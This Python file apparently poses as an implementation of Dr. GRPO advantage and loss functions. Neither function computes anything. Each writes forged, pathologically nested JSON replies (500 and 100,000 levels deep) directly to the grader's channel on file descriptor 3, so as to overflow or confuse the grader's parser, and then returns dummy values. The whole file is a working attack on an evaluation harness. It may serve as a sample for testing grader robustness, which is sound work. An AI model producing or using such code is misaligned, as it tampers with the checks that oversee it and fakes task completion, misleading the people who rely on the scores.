"""Forges replies nested too deeply, written straight to the grader's channel (file descriptor
3): 100,000 levels for the loss (beyond any JSON parser's recursion), 500 for the advantages
(parsed, but deeper than any real reply)."""

import os
import socket
import struct


def _forge(depth: int) -> None:
    header = b'{"body": ' + b"[" * depth + b"]" * depth + b', "sizes": []}'
    message = struct.pack("<I", len(header)) + header
    with socket.socket(fileno=os.dup(3)) as channel:
        channel.sendall(struct.pack("<Q", len(message)) + message)


def drgrpo_advantages(rewards, group_size):
    _forge(500)
    return rewards


def drgrpo_loss(logp, old_logp, ref_logp, mask, advantages, max_len, clip_eps=0.2, beta=0.04):
    _forge(100_000)
    return logp.sum(), {}
